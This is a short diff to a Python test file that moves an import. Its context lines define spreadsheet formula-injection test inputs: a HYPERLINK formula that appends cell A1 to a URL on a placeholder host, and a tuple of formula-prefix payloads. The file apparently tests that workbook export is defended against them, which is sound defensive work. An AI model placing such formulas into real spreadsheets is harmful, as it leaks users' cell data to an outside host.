@@ -14,7 +14,7 @@ from models.results.compute import compute_results
 from models.scoring.self_assessments import save_draft
 from report.build import write_report
 from report.workbook import SHEET, read_workbook, write_template
-from tests.models.scoring_setup import scoring_campaign, submit
+from tests.world.scoring import scoring_campaign, submit
 
 LINK = '=HYPERLINK("http://example.invalid/?"&A1,"Bấm vào đây")'
 ATTACKS = (LINK, "+1+1", "-2+3", "@SUM(A1)", "\t=1", "\r=1")
